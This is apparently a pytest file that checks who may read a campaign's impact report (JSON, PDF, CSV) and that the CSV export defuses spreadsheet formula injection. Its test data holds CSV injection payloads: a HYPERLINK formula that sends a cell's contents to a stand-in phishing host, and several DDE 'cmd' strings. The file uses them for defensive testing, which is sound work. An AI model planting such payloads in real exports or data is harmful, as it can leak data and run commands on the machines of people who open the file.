"""The impact report attacked: the people of another sponsor, of a venue or of a school
asking for a campaign's impact (JSON, PDF, CSV), before and after its month's snapshot is
stored; and names chosen to become spreadsheet formulas in the CSV."""
import csv
import io
import re

import pytest
import sqlalchemy as sa

from server.accounts.models import Membership, Organisation
from server.campaigns.models import Campaign
from server.catalogue.models import Event
from server.extensions import db
from tests.server.reports.test_snapshots import _snapshot_month, month_town  # noqa: F401  (fixture)

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {
    "campaign": '=HYPERLINK("https://phishing.example/?d="&A1,"Apri")',
    "milano": "+cmd|' /C calc'!A0",
    "rho": "@SUM(1+1)*cmd|' /C calc'!A0",
    "event": "-2+3+cmd|' /C calc'!A0",
}
FORMATS = ("", ".pdf", ".csv")


def _owner_email(organisation_id: int) -> str:
    return db.session.scalar(sa.select(Membership).filter_by(organisation_id=organisation_id)
                             .order_by(Membership.id)).user.email


@pytest.fixture
def hostile_town(month_town):  # noqa: F811  (the imported fixture)
    """The month's town whose campaign, venues and events were named to be formulas."""
    with month_town.app.app_context():
        db.session.get(Campaign, month_town.campaign_id).name = HOSTILE["campaign"]
        db.session.get(Organisation, month_town.venues["milano"]).name = HOSTILE["milano"]
        db.session.get(Organisation, month_town.venues["rho"]).name = HOSTILE["rho"]
        db.session.execute(sa.update(Event).values(title=HOSTILE["event"]))
        quiet = db.session.get(Campaign, month_town.quiet_campaign_id)
        month_town.other_sponsor_email = _owner_email(quiet.sponsors[0].id)
        db.session.commit()
    return month_town


def _cells(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


@pytest.mark.parametrize("snapshot", [False, True])
def test_no_cell_of_the_csv_is_a_formula_whatever_the_names(hostile_town, snapshot):
    if snapshot:
        _snapshot_month(hostile_town)

    response = hostile_town.api(hostile_town.sponsor_email).get(f"/api/v1/campaigns/{hostile_town.campaign_id}/impact.csv")

    assert response.status_code == 200, response.get_json()
    rows = _cells(response.data)
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
    # The names are there, each kept whole in one cell and shown as typed (the apostrophe
    # is hidden by the spreadsheet): the premise that the hostile text reached the file.
    assert ["Campagna", "'" + HOSTILE["campaign"]] in rows
    venues = {row[1] for row in rows if row and row[0] == "Spesa per luogo della cultura"}
    assert "'" + HOSTILE["rho"] in venues


def test_the_download_name_of_a_hostile_campaign_is_plain(hostile_town):
    sponsor = hostile_town.api(hostile_town.sponsor_email)

    for fmt in ("pdf", "csv"):
        response = sponsor.get(f"/api/v1/campaigns/{hostile_town.campaign_id}/impact.{fmt}")
        disposition = response.headers["Content-Disposition"]
        assert re.fullmatch(rf'attachment; filename="impatto-hyperlink-https-phishing-example-d-a1-[a-z-]*'
                            rf'{hostile_town.campaign_id}\.{fmt}"', disposition), disposition


def _intruders(town) -> dict:
    return {"another sponsor": town.other_sponsor_email, "the venue": town.venue_emails[town.venues["rho"]],
            "scanner staff": town.staff_email, "the school": town.school_email}


@pytest.mark.parametrize("snapshot", [False, True])
def test_nobody_but_the_campaigns_sponsors_reads_its_impact_in_any_format(hostile_town, snapshot):
    if snapshot:
        _snapshot_month(hostile_town)
    town = hostile_town
    assert town.api(town.sponsor_email).get(f"/api/v1/campaigns/{town.campaign_id}/impact").status_code == 200

    for who, email in _intruders(town).items():
        api = town.api(email)  # one login each: the login is rate limited
        for fmt in FORMATS:
            response = api.get(f"/api/v1/campaigns/{town.campaign_id}/impact{fmt}")
            assert response.status_code == 403, (who, fmt)
            assert response.mimetype == "application/problem+json", (who, fmt)
            text = response.get_data(as_text=True)
            assert "cmd|" not in text and "HYPERLINK" not in text and "spend" not in text, (who, fmt)
    for fmt in FORMATS:
        anonymous = town.api().get(f"/api/v1/campaigns/{town.campaign_id}/impact{fmt}")
        assert anonymous.status_code == 401


def test_a_sponsor_reads_no_other_campaigns_impact_through_its_own_membership(hostile_town):
    """Sponsor A's owner asking for sponsor B's campaign, and B's for A's."""
    town = hostile_town
    _snapshot_month(town)

    for email, campaign_id in ((town.sponsor_email, town.quiet_campaign_id),
                               (town.other_sponsor_email, town.campaign_id)):
        api = town.api(email)
        for fmt in FORMATS:
            response = api.get(f"/api/v1/campaigns/{campaign_id}/impact{fmt}")
            assert response.status_code == 403 and response.get_json()["code"] == "not_a_campaign_sponsor"


def test_a_sponsor_member_who_left_reads_the_impact_no_more(hostile_town):
    from datetime import datetime, timezone

    town = hostile_town
    api = town.api(town.sponsor_email)
    with town.app.app_context():
        db.session.execute(sa.update(Membership).where(Membership.organisation_id == town.sponsor_id)
                           .values(removed_at=datetime.now(timezone.utc)))
        db.session.commit()

    for fmt in FORMATS:
        assert api.get(f"/api/v1/campaigns/{town.campaign_id}/impact{fmt}").status_code == 403
